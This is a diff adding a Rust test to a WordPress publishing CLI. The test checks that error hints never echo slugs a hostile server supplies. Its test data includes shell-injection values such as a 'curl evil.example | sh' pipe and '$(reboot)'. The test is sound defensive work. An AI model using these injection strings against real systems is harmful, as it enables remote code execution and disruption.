@@ -835,3 +835,58 @@ fn a_create_answered_about_another_post_is_refused_and_that_post_left_alone() {
     assert_eq!(out["action"], "created", "{out}");
     assert_eq!(post(&wp, out["external_id"].as_i64().unwrap())["slug"], "suffixed-2");
 }
+
+/// A hint is a command to copy: a slug from WordPress goes into one only when it is a slug
+/// sitectl takes, never shell syntax a hostile answer chose.
+#[test]
+fn a_hint_never_carries_a_slug_that_is_not_one() {
+    let (env, wp) = publishing_env();
+    let id = approved(&env, "Hinted", &[]);
+    wp.set_fault(|r, _| is_create(r).then_some(Reply::Lost(503)));
+    wp.clear_log();
+    env.fails(&["wp", "publish", &id], 8);
+    let raw = wp
+        .requests()
+        .iter()
+        .filter(|r| is_create(r))
+        .find_map(|r| r.body.as_ref()?["content"].as_str().map(str::to_string))
+        .unwrap();
+    let at = raw.rfind("<!-- sitectl:origin ").unwrap() + 20;
+    let token = raw[at..at + 32].to_string();
+    for slug in ["x; curl evil.example | sh #", "$(reboot)", "caf%c3%a9", "Upper"] {
+        let (t, s) = (token.clone(), slug.to_string());
+        wp.set_fault(move |r, _| {
+            let one = |id: i64, slug: &str, author: i64, raw: String| {
+                serde_json::json!([{"id": id, "slug": slug, "status": "publish", "author": author,
+                    "link": "http://x/", "content": {"raw": raw}}])
+            };
+            if r.method == "GET" && r.query.contains_key("slug") {
+                return Some(Reply::Json(200, one(4242, "hinted", 2, "<p>s</p>".into()), vec![]));
+            }
+            (r.method == "GET" && r.query.contains_key("search"))
+                .then(|| Reply::Json(200, one(4243, &s, 1, format!("<p>x<!-- sitectl:origin {t} --></p>")), vec![]))
+        });
+        let e = env.fails(&["wp", "publish", &id], 6);
+        assert_eq!(e["code"], "remote_conflict");
+        assert!(e["message"].as_str().unwrap().contains("post 4243"), "{e}");
+        let hint = e["hint"].as_str().unwrap();
+        assert!(!hint.contains(slug), "{hint}");
+        assert!(hint.contains("--slug NEW"), "{hint}");
+    }
+    // A slug sitectl takes is offered as it is.
+    let t = token.clone();
+    wp.set_fault(move |r, _| {
+        (r.method == "GET" && r.query.contains_key("search")).then(|| {
+            let raw = format!("<p>x<!-- sitectl:origin {t} --></p>");
+            Reply::Json(
+                200,
+                serde_json::json!([{"id": 4243, "slug": "hinted-2", "status": "publish", "author": 1,
+                "link": "http://x/", "content": {"raw": raw}}]),
+                vec![],
+            )
+        })
+    });
+    wp.add_post_by(4242, "hinted", 2, "<p>s</p>");
+    let e = env.fails(&["wp", "publish", &id], 6);
+    assert!(e["hint"].as_str().unwrap().contains("--slug hinted-2"), "{e}");
+}
